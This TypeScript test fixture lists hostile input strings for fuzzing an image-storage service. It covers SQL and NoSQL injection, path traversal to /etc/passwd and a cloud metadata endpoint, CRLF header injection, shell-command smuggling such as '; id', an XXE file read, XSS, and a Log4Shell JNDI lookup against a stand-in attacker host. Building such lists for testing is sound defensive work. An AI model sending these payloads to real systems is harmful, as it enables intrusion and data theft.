/** Strings that have broken parsers, stores, headers, logs and pages. They are harmless in themselves. */

const CONTROLS = [
  '\0', 'a\0b', '\x01', '\x07', '\b', '\t', '\n', '\r', '\r\n', 'a\nb', '\x0b', '\f', '\x1a', '\x1b[31mred\x1b[0m',
  '\x7f', '\x80', '\x85', '\x9b', '\xa0',
  '\xad', '\u2028', '\u2029', '\ufffe', '\uffff', '\ufffd', '\ufdd0', '\u{1ffff}', '\u{10ffff}',
];

const INVISIBLE_AND_BIDI = [
  '\u200b', '\u200c', '\u200d', '\u200e\u200f', '\u2060', '\ufeff', '\ufeffabc', '\u202eexe.gpj',
  '\u202a\u202b\u202c\u202d', '\u2066abc\u2069', '\u061c',
  '\u3164', '\u115f', '\u180e', '\u{e0001}\u{e0041}', '\u034f', '\ufe0f', 'a\u200bb',
];

const SURROGATES = ['\ud800', '\udfff', '\udc00\ud800', 'a\ud83db', '\ud83d', '\ude00\ud83d\ude00', '\ud800\ud800'];

const SCRIPTS = [
  '\u00e9', 'e\u0301', '\u212b', '\ufb01', '\u1e9e', '\u0130', '\u0131', '\u017f', '\u03a3\u03a3', '\u0958',
  '\u1100\u1161\u11a8', '\uac01',
  '\u65e5\u672c\u8a9e', '\u0627\u0644\u0639\u0631\u0628\u064a\u0629', '\u05e9\u05dc\u05d5\u05dd', '\u0e44\u0e17\u0e22',
  '\u0939\u093f\u0928\u094d\u0926\u0940',
  '\u{1d4d0}\u{1d4d1}', '\u{20000}', '\uff21\uff22\uff0e\uff4a\uff50\uff47', '\u0441\u0430t', '\u0391lice',
  'p\u0430ypal', '\u2025/\u2025/', '\uff0e\uff0e\uff0f',
  'Z\u0351\u036b\u0343\u036a\u0302\u036b\u033d', 'a' + '\u0301'.repeat(60), '\u0661\u0662\u0663', '\u00bd\u00b2',
  '\u2160',
];

const EMOJI = [
  '\u{1f600}', '\u{1f469}\u200d\u{1f469}\u200d\u{1f467}\u200d\u{1f466}', '\u{1f44d}\u{1f3ff}', '\u{1f1e8}\u{1f1ed}',
  '\u{1f3f4}\u{e0067}\u{e0062}\u{e007f}',
  '\u2764\ufe0f', '1\ufe0f\u20e3', '\u{1f9d1}\u200d\u{1f680}.heic', '\u{1f600}'.repeat(16),
];

const SQL_AND_NOSQL = [
  "' OR '1'='1", "'; DROP TABLE images;--", '1; SELECT pg_sleep(9)', '" OR ""="', 'admin\'--', "\\'; --",
  '1 UNION SELECT NULL', '%27%20OR%201=1',
  '{"$gt":""}', '{"$ne":null}', '[$ne]', '$where: "1"', "'; return true; var x='", ':val', '#name', ':status',
  '#status', 'attribute_exists(image_id)',
  'SET #a = :b', 'owner = :x OR 1=1', '{"S":"x"}', 'NULL', 'begins_with(a, :b)', '*)(uid=*))(|(uid=*', '*', '?',
  '[a-z]', '(?=a)*',
];

const PATHS = [
  '.', '..', '../', '../../../../etc/passwd', '..\\..\\windows\\win.ini', '/etc/passwd', 'C:\\boot.ini',
  '\\\\host\\share', '....//....//', '%2e%2e%2f', '%252e%252e%252f',
  '..%c0%af', '..;/', 'file:///etc/passwd', '~root', '/dev/null', 'CON', 'NUL.jpg', 'a.jpg\0.exe', 'a.php.jpg',
  '.htaccess', 'originals/_/alice/x/y', '//evil.example/x',
  'http://169.254.169.254/latest/meta-data/', 's3://bucket/key', 'a/b', 'a//b', '/', '\\',
];

const HEADERS = [
  'a\r\nSet-Cookie: x=1', 'a\nX-Injected: 1', 'a\r\n\r\n<html>', '%0d%0aSet-Cookie:x=1', '\u560d\u560aSet-Cookie:x',
  'a"; filename="b.exe', 'a"', '"', '""', '\\"', 'a\\',
  "a'b", "utf-8''x", "UTF-8''%41", 'a;b=c', 'a, b', 'x; filename*=UTF-8\'\'evil.exe', '=?UTF-8?B?ZXZpbA==?=', 'a%',
  'a%zz', '%', '%00', '%41', '100%', '&amp;', 'a=b&c=d', 'a+b', 'a b',
  '  a  ', ' ', '   ',
];

const TEMPLATES_AND_FORMATS = [
  '${7*7}', '{{7*7}}', '#{7*7}', '<%= 7*7 %>', '{%raw%}', '$util.error("x")', '$context.authorizer', '#set($x=1)',
  '${jndi:ldap://evil.example/a}', '`id`', '$(id)', '; id',
  '| id', '&& id', '%s%s%s%n', '%d', '%x%x', '{0}', '%(x)s', '@import', '=1+1', '+cmd|x', '-2+3', '@SUM(1)',
  "=HYPERLINK('x')", '<script>alert(1)</script>',
  '"><img src=x onerror=alert(1)>', "javascript:alert('x')", '<svg/onload=alert(1)>', '<!--', ']]>',
  '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>&e;',
  'data:text/html,<b>', '\\u0000', '\\x41', '\\n', 'a\\u0022b',
];

const WORDS = [
  '__proto__', 'constructor', 'prototype', 'toString', 'valueOf', 'hasOwnProperty', 'undefined', 'null', 'NaN',
  'Infinity', '-Infinity', 'true', 'false', 'None',
  '[object Object]', '{}', '[]', '0', '-0', '-1', '1e1000', '0x10', '00', '9007199254740993', '1.0', 'length', 'then',
  'ready', 'pending', 'usage', 'images', 'batch-delete',
];

const LONG = [
  'a'.repeat(65), 'a'.repeat(129), 'a'.repeat(201), 'a'.repeat(255), 'a'.repeat(256), 'a'.repeat(1025),
  '\u00e9'.repeat(128), '\u{1f600}'.repeat(65), '/'.repeat(300),
  '%'.repeat(300), '"'.repeat(255), '\\'.repeat(200), '('.repeat(2000), '['.repeat(5000), 'a '.repeat(2000),
  'x'.repeat(16_384), 'y'.repeat(65_536), '\u65e5'.repeat(21_845),
];

export const HOSTILE_STRINGS: readonly string[] = [
  '', ...CONTROLS, ...INVISIBLE_AND_BIDI, ...SURROGATES, ...SCRIPTS, ...EMOJI, ...SQL_AND_NOSQL, ...PATHS, ...HEADERS,
  ...TEMPLATES_AND_FORMATS, ...WORDS, ...LONG,
];

/** Overlong and broken UTF-8; a JavaScript string cannot hold it. */
export const HOSTILE_BYTES: readonly Buffer[] = [
  'c0af', 'c080', 'e080af', 'f08080af', 'eda080', 'edbfbf', 'eda081edb080', 'ff', 'fe', 'fffe', 'f4908080', 'f8888080',
  'c3', 'e282', 'f09f98', '80', 'bf', 'c328', 'a0a1',
].map(hex => Buffer.from(hex, 'hex'));
